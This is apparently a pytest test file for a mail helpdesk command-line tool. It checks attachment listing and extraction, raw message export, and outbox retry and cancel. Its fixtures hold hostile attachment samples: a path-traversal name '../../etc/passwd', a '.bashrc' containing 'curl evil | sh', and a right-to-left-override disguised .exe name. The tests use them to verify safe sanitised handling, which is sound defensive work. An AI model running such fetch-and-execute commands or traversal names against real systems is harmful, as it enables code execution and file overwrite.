"""SPEC §10 command-line additions that read or change what is stored: `attachments list|
get`, `messages raw`, `outbox list|retry|cancel`, on SQLite and PostgreSQL."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from sqlalchemy import select, update

from maildesk.cli.attachments import disk_name
from maildesk.store.db import Database
from maildesk.store.models import Outbox
from tests.helpers import make_mail

EXE = Path(sys.executable).with_name("maildesk")
HOSTILE = [
    ("../../etc/passwd", "text/plain", b"root:x:0:0"),
    (".bashrc", "text/plain", b"curl evil | sh"),
    ("fact\u202efdp.exe", "application/octet-stream", b"MZ"),
    ("informe.pdf", "application/pdf", b"%PDF-1.4 uno"),
]


@pytest.fixture
def ticket(cli, tmp_path: Path) -> int:
    mail = tmp_path / "m.eml"
    mail.write_bytes(make_mail(subject="Con adjuntos", attachments=HOSTILE))
    assert cli("ingest", str(mail))[1].startswith("ticketed #1")
    return 1


def test_attachments_list_shows_each_file_safely(cli, ticket: int) -> None:
    code, out, _ = cli("attachments", "list", str(ticket))
    lines = out.splitlines()
    assert code == 0 and lines[0].split() == ["ID", "DATE", "FROM", "BYTES", "TYPE", "NAME"]
    assert lines[-1] == "(4 attachments on ticket #1)"
    assert "\u202e" not in out
    rows = json.loads(cli("attachments", "list", str(ticket), "--json")[1])
    assert [r["size"] for r in rows] == [len(d) for _, _, d in HOSTILE]


def test_attachments_get_writes_plain_names_inside_dir_never_over_a_file(
    cli, ticket: int, tmp_path: Path
) -> None:
    out_dir = tmp_path / "files"
    assert cli("attachments", "get", str(ticket), "-o", str(out_dir))[0] == 0
    written = sorted(p.name for p in out_dir.iterdir())
    assert written == ["bashrc", "factfdp.exe", "informe.pdf", "passwd"]
    assert not (tmp_path / "etc").exists()
    assert (out_dir / "passwd").read_bytes() == b"root:x:0:0"
    assert oct((out_dir / "informe.pdf").stat().st_mode & 0o777) == "0o600"
    # a second run, and a symlink planted where the next copy would go: neither overwritten
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    (out_dir / "informe (2).pdf").symlink_to(victim)
    assert cli("attachments", "get", str(ticket), "informe.pdf", "-o", str(out_dir))[0] == 0
    assert victim.read_text() == "keep me"
    assert (out_dir / "informe (3).pdf").read_bytes() == b"%PDF-1.4 uno"
    assert (out_dir / "passwd").read_bytes() == b"root:x:0:0"


def test_attachments_get_by_id_and_errors(cli, ticket: int, tmp_path: Path) -> None:
    rows = json.loads(cli("attachments", "list", str(ticket), "--json")[1])
    code = cli("attachments", "get", str(ticket), str(rows[3]["id"]), "-o", str(tmp_path))[0]
    assert code == 0 and (tmp_path / "informe.pdf").exists()
    code, _, err = cli("attachments", "get", str(ticket), "999", "-o", str(tmp_path))
    assert code == 1 and "ticket #1 has no attachment 999" in err
    code, _, err = cli("attachments", "list", "42")
    assert code == 1 and "no ticket #42" in err
    blocker = tmp_path / "a-file"
    blocker.write_text("x")
    code, _, err = cli("attachments", "get", str(ticket), "-o", str(blocker))
    assert code == 1 and "cannot write into" in err


def test_disk_name_is_always_a_plain_name() -> None:
    for name in ("../x", "..", ".", "a/b\\c", "\x1b[2Jx", "", "\u202egnp.exe", "...hidden"):
        plain = disk_name(name)
        assert plain and os.path.basename(plain) == plain and plain not in (".", "..")
        assert not plain.startswith(".") and "\u202e" not in plain and "\x1b" not in plain


def test_messages_raw_gives_the_exact_bytes_received_and_sent(
    cli, db_url: str, tmp_path: Path
) -> None:
    raw = make_mail(subject="Original", message_id="<orig-1@acme.example>")
    (tmp_path / "m.eml").write_bytes(raw)
    cli("ingest", str(tmp_path / "m.eml"))
    target = tmp_path / "copy.eml"
    assert cli("messages", "raw", "<orig-1@acme.example>", "-o", str(target))[0] == 0
    assert target.read_bytes() == raw
    db = Database(db_url)
    try:
        with db.transaction() as s:
            ack_id, ack_raw = s.execute(select(Outbox.message_id, Outbox.raw).limit(1)).one()
    finally:
        db.dispose()
    assert cli("messages", "raw", ack_id, "-o", str(target))[0] == 0
    assert target.read_bytes() == ack_raw
    code, _, err = cli("messages", "raw", "<nothing@here>")
    assert code == 1 and "no stored mail with Message-ID" in err


def test_messages_raw_to_a_pipe_through_the_installed_command(cli, tmp_path: Path) -> None:
    raw = make_mail(message_id="<pipe-1@acme.example>", body="línea\x1b[31m\n")
    (tmp_path / "m.eml").write_bytes(raw)
    cli("ingest", str(tmp_path / "m.eml"))
    env = {k: v for k, v in os.environ.items() if k != "MAILDESK_CONFIG"}
    res = subprocess.run(
        [
            str(EXE),
            "--config",
            str(tmp_path / "maildesk.toml"),
            "messages",
            "raw",
            "pipe-1@acme.example",
        ],
        capture_output=True,
        env=env,
        timeout=60,
        check=False,
    )
    assert res.returncode == 0 and res.stdout == raw


def _fail_all(db_url: str) -> list[int]:
    db = Database(db_url)
    try:
        with db.transaction() as s:
            s.execute(update(Outbox).values(state="failed", attempts=8, last_error="550 no"))
            return list(s.scalars(select(Outbox.id).order_by(Outbox.id)))
    finally:
        db.dispose()


def test_outbox_list_retry_cancel(cli, db_url: str, tmp_path: Path) -> None:
    (tmp_path / "m.eml").write_bytes(make_mail())
    cli("ingest", str(tmp_path / "m.eml"))  # an acknowledgement and the agent's notice
    code, out, _ = cli("outbox", "list")
    assert code == 0 and out.splitlines()[0].split()[:2] == ["ID", "QUEUED"]
    assert out.splitlines()[-1] == "(2 mails)"
    first, second = _fail_all(db_url)
    failed = json.loads(cli("outbox", "list", "--failed", "--json")[1])
    assert [r["id"] for r in failed] == [first, second] and failed[0]["last_error"] == "550 no"
    assert "550 no" in cli("outbox", "list")[1]
    code, out, _ = cli("outbox", "retry", str(first))
    assert code == 0 and f"outbox mail {first}: will be sent again" in out
    assert out.splitlines()[-1].startswith("database: ")
    code, _, err = cli("outbox", "retry", str(first))
    assert code == 1 and "already waiting" in err
    assert cli("outbox", "cancel", str(second))[0] == 0
    code, _, err = cli("outbox", "cancel", str(second))
    assert code == 1 and "already cancelled" in err
    assert cli("outbox", "flush")[1].startswith("sent 1")  # the retried one, not the cancelled
    states = {r["id"]: r["state"] for r in json.loads(cli("outbox", "list", "--all", "--json")[1])}
    assert states == {first: "sent", second: "cancelled"}
    code, _, err = cli("outbox", "cancel", str(first))
    assert code == 1 and "already delivered" in err
    code, _, err = cli("outbox", "retry", "999")
    assert code == 1 and "no outbox mail 999" in err


def test_outbox_retry_all_failed(cli, db_url: str, tmp_path: Path) -> None:
    (tmp_path / "m.eml").write_bytes(make_mail())
    cli("ingest", str(tmp_path / "m.eml"))
    assert cli("outbox", "retry", "--all-failed")[1].startswith("no failed mail")
    ids = _fail_all(db_url)
    code, out, _ = cli("outbox", "retry", "--all-failed")
    assert code == 0 and out.count("will be sent again") == len(ids)
    assert json.loads(cli("outbox", "list", "--failed", "--json")[1]) == []
